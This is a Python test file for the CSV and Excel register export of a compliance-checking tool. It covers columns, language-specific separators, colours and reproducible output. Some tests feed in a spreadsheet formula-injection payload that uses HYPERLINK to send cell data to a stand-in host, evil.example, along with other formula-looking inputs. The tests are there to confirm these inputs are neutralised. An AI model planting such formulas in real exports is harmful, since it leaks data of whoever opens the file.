"""The register (`--format csv`, `--format xlsx`): one row per file, read back the way a
reviewer's tools read it (the csv module, openpyxl), with columns, words per language, colours,
and a formula-looking name that stays text. The CSV's bytes are in tests/golden/."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from dataclasses import replace
from datetime import date, datetime

import pytest

from oncocheck.render import register as register_csv
from oncocheck.render import register_xlsx, render
from oncocheck.render.pages import warning_counts
from oncocheck.report import Finding, Severity, Status, Text
from paths import ROOT
from sample_report import sample_report
from workbook import formulas, opened, rows

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
IDS = ["1a", "1b", "2a", "2b", "3", "4", "5", "6", "7", "8", "9", "10"]
HEAD_NL = ["Bestand", "Netwerk", "Oordeel", "Fouten", "Eerste fout", "Criteriaversie",
           "Peildatum", "Peildatum volgens", *IDS,
           "Aandeel Verwijsgids (2a)", "Aantal waarschuwingen", "Soorten waarschuwing",
           "SHA-256 netwerkbestand"]
HEAD_EN = ["File", "Network", "Verdict", "Errors", "First error", "Criteria version", "As of",
           "As of from", *IDS,
           "Verwijsgids share (2a)", "Number of warnings", "Warning ids", "Network file SHA-256"]
CSS = ROOT / "src/oncocheck/render/templates/style.css"


def _csv_rows(text: str, lang: str = "en") -> list[list[str]]:
    """The rows as a reader set to the language's separator reads them (`;` in Dutch)."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True,
                           delimiter=";" if lang == "nl" else ","))


# -- CSV ------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang, head", [("nl", HEAD_NL), ("en", HEAD_EN)])
def test_csv_has_a_header_and_a_row_per_file(report, lang: str, head: list[str]) -> None:  # noqa: ANN001
    text = render(report, "csv", lang)
    assert text.startswith("\ufeff") and text.count("\r\n") == 4 and "\n" not in text.replace(
        "\r\n", "")
    table = _csv_rows(text, lang)
    assert table[0] == head and all(len(row) == len(head) for row in table)
    good, bad, invalid = table[1:]
    sha = report.results[0].inputs[0].sha256
    assert good[:8] == ["examples/compliant/voorbeeldstad.yaml",
                        "Oncologiezorgnetwerk Voorbeeldstad", "Voldoet" if lang == "nl"
                        else "Compliant", "", "", "loppsoz@2024", "2026-11-23", ""]
    assert good[-4:] == ["0,636" if lang == "nl" else "0.636", "0", "", sha]
    assert bad[9] == ("niet voldaan" if lang == "nl" else "not met")  # 1b
    assert bad[16] == ("ontbreekt" if lang == "nl" else "missing")  # 7
    assert bad[-3:-1] == ["1", "duplicate-member"]
    assert invalid[2] == ("Ongeldig" if lang == "nl" else "Invalid")
    # an invalid file says why: how many load errors, and the first, where and what
    assert invalid[3] == "1" and invalid[4] == "examples/invalid/typo.yaml:40:17: " + (
        "members[2].discipline: onbekende discipline 'dietis'; bedoelt u 'diëtist'?"
        if lang == "nl" else "members[2].discipline: unknown discipline 'dietis'; did you mean "
        "'diëtist'?")
    assert invalid[5:-4] == [""] * 15 and invalid[-1] == report.results[2].inputs[0].sha256


def test_a_formula_looking_name_stays_text_in_csv() -> None:
    text = render(sample_report(hostile=FORMULA + "; =1+1"), "csv", "en")
    row = _csv_rows(text)[2]
    assert row[1] == "'" + FORMULA + "; =1+1"
    # quoted, so Excel with `;` as its list separator (Dutch) cannot split it at the `;`
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")' in text


@pytest.mark.parametrize("text, shown", [
    ("=1+1", "'=1+1"), ("+31 6", "'+31 6"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Zuid = goed", "Zuid = goed"), ("", "")])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str, shown: str) -> None:
    assert register_csv.defused(text) == shown
    assert register_csv.field(text) == '"' + shown + '"'


def test_csv_fields_are_rfc_4180() -> None:
    assert register_csv.line(["a,b", 'zei "ja"', None, 3, 0.5]) == \
        '"a,b","zei ""ja""",,3,0.5\r\n'


def test_the_warning_count_counts_past_the_cap(report) -> None:  # noqa: ANN001
    result = report.results[1]
    more = Finding("duplicate-member", Severity.WARNING, Status.NOT_MET, Text("d", "d"),
                   Text("… en nog 4900", "… and 4900 more"), {"more": 4900})
    capped = replace(result, findings=(*result.findings, more))
    assert warning_counts(capped) == {"duplicate-member": 4901}
    row = _csv_rows(render(replace(report, results=(capped,)), "csv", "en"))[1]
    assert row[-3:-1] == ["4901", "duplicate-member"]


# -- xlsx ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def book() -> bytes:
    return render(sample_report(hostile=FORMULA), "xlsx", "nl")


def test_xlsx_has_the_register_and_the_criteria(book: bytes) -> None:
    workbook = opened(book)
    assert workbook.sheetnames == ["Register", "Criteria"]
    table = rows(book)
    assert table[0] == HEAD_NL and len(table) == 4
    assert table[1][:8] == ["examples/compliant/voorbeeldstad.yaml",
                            "Oncologiezorgnetwerk Voorbeeldstad", "Voldoet", None, None,
                            "loppsoz@2024", datetime(2026, 11, 23), None]
    assert table[3][2:5] == ["Ongeldig", 1, "examples/invalid/typo.yaml:40:17: members[2]."
                             "discipline: onbekende discipline 'dietis'; bedoelt u 'diëtist'?"]
    assert table[3][5:-1] == [None, None, None, *[None] * 12, None, 0, None]
    criteria = rows(book, "Criteria")
    assert criteria[0] == ["Versie", "ID", "Titel", "Tekst", "Ernst"]
    assert criteria[1] == ["loppsoz@2024", "1a", "Multidisciplinair", "Tekst 1a.", "fout"]
    assert [r[1] for r in criteria[1:]] == IDS


def test_xlsx_in_english() -> None:
    data = render(sample_report(), "xlsx", "en")
    table = rows(data)
    assert table[0] == HEAD_EN and table[2][2] == "Not compliant" and table[2][9] == "not met"
    assert rows(data, "Criteria")[0] == ["Version", "ID", "Title", "Text", "Severity"]


def test_xlsx_is_laid_out_for_a_reviewer(book: bytes) -> None:
    register = opened(book)["Register"]
    assert register.freeze_panes == "A2"
    assert register.auto_filter.ref == "A1:X4"
    assert register.column_dimensions["A"].width == 42
    assert register.column_dimensions["X"].width == 68  # a SHA-256 fits
    assert all(c.font.bold for c in register[1])
    assert register["G2"].is_date and register["G2"].number_format == "yyyy-mm-dd"
    share = register["U2"]
    assert share.data_type == "n" and share.number_format == "0.0%"
    assert share.value == pytest.approx(7 / 11)
    assert opened(book)["Criteria"].freeze_panes == "A2"


def _colour(cell) -> tuple[str, str]:  # noqa: ANN001 - an openpyxl cell
    return cell.font.color.rgb[-6:], cell.fill.fgColor.rgb[-6:]


def test_statuses_and_verdicts_have_their_colours(book: bytes) -> None:
    register = opened(book)["Register"]
    expected = register_xlsx.COLOURS
    assert _colour(register["C2"]) == expected["met"]  # Voldoet
    assert _colour(register["C3"]) == expected["not_met"]  # Voldoet niet
    assert _colour(register["C4"]) == expected["invalid"]
    assert register["J3"].value == "niet voldaan" and _colour(register["J3"]) == expected[
        "not_met"]
    assert register["Q3"].value == "ontbreekt" and _colour(register["Q3"]) == expected["missing"]
    assert register["I2"].value == "voldaan" and _colour(register["I2"]) == expected["met"]


def _luminance(rgb: str) -> float:
    channels = [int(rgb[i:i + 2], 16) / 255 for i in (0, 2, 4)]
    lin = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * lin[0] + 0.7152 * lin[1] + 0.0722 * lin[2]


def test_status_colours_are_the_pages_and_readable() -> None:
    css = dict(re.findall(r"--([\w-]+):\s*#([0-9a-f]{6})", CSS.read_text()))
    for status, (ink, fill) in register_xlsx.COLOURS.items():
        assert (ink.lower(), fill.lower()) == (css[f"{status}-fg"], css[f"{status}-bg"])
        high, low = sorted((_luminance(ink), _luminance(fill)), reverse=True)
        assert (high + 0.05) / (low + 0.05) >= 4.5, status  # WCAG AA for text


def test_a_formula_looking_name_stays_text_in_xlsx(book: bytes) -> None:
    cell = opened(book)["Register"]["B3"]
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    assert formulas(book) == []
    sheet = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="inlineStr"' in sheet


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "#N/A", "#DIV/0!", "0012"])
def test_every_text_is_a_string_cell(text: str) -> None:
    data = render(sample_report(hostile=text), "xlsx", "en")
    cell = opened(data)["Register"]["B3"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix == text.startswith(register_csv.RISKY)


def test_the_same_report_gives_the_same_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    first = render(sample_report(), "xlsx", "nl")
    later = time.time() + 86_400 * 40
    monkeypatch.setattr(time, "time", lambda: later)  # what zipfile stamps its parts with
    assert render(sample_report(), "xlsx", "nl") == first
    archive = zipfile.ZipFile(io.BytesIO(first))
    assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    properties = opened(first).properties
    assert properties.created == properties.modified == datetime(2026, 11, 23)
    assert properties.creator == "oncocheck"


def test_an_all_invalid_batch_still_has_the_criteria_columns(report) -> None:  # noqa: ANN001
    only = replace(report, results=report.results[2:])
    assert _csv_rows(render(only, "csv", "en"))[0] == HEAD_EN
    assert rows(render(only, "xlsx", "en"))[0] == HEAD_EN


def test_the_as_of_date_of_the_archive_is_the_reports(report) -> None:  # noqa: ANN001
    other = replace(report, as_of=date(2027, 1, 5))
    assert opened(render(other, "xlsx", "en")).properties.created == datetime(2027, 1, 5)


def test_the_dutch_csv_opens_in_columns_in_a_dutch_excel(report) -> None:  # noqa: ANN001
    """Issue 23.8: Excel with Dutch regional settings splits a double-clicked CSV at `;` and
    reads `0,636` as a number; an English one at `,` with `0.636`."""
    nl = render(report, "csv", "nl").encode("utf-8")
    assert nl.startswith(b'\xef\xbb\xbf"Bestand";"Netwerk";"Oordeel";"Fouten";"Eerste fout";')
    good = nl.split(b"\r\n")[1]
    assert b";0,636;0;;" in good and b"," not in good.replace(b"0,636", b"")
    en = render(report, "csv", "en").encode("utf-8")
    assert en.startswith(b'\xef\xbb\xbf"File","Network","Verdict","Errors","First error",')
    assert b",0.636,0,," in en.split(b"\r\n")[1]


def test_an_invalid_file_counts_its_errors_past_the_cap(report) -> None:  # noqa: ANN001
    from oncocheck.errors import LoadFailed

    invalid = report.results[2]
    many = LoadFailed([invalid.errors[0]] * 100, omitted=250).errors
    row = _csv_rows(render(replace(report, results=(replace(invalid, errors=tuple(many)),)),
                           "csv", "en"))[1]
    assert row[3] == "350" and row[4].endswith("did you mean 'diëtist'?")


@pytest.mark.parametrize("lang, words", [
    ("nl", ["submitted:", "dag van de controle (geen submitted:)", "opgegeven (--as-of)"]),
    ("en", ["submitted:", "day of the run (no submitted:)", "given (--as-of)"])])
def test_the_register_says_what_gave_each_as_of_date(report, lang: str,  # noqa: ANN001
                                                      words: list[str]) -> None:
    """Issue 23.10: a file judged on the day of the run because it has no `submitted:` date
    is marked in both registers."""
    from oncocheck.report import Dated

    good, bad, invalid = report.results
    dated = (replace(good, dated=Dated.SUBMITTED), replace(bad, dated=Dated.TODAY),
             replace(good, dated=Dated.AS_OF), invalid)
    marked = replace(report, results=dated)
    assert [r[7] for r in _csv_rows(render(marked, "csv", lang), lang)[1:]] == [*words, ""]
    assert [r[7] for r in rows(render(marked, "xlsx", lang))[1:]] == [*words, None]
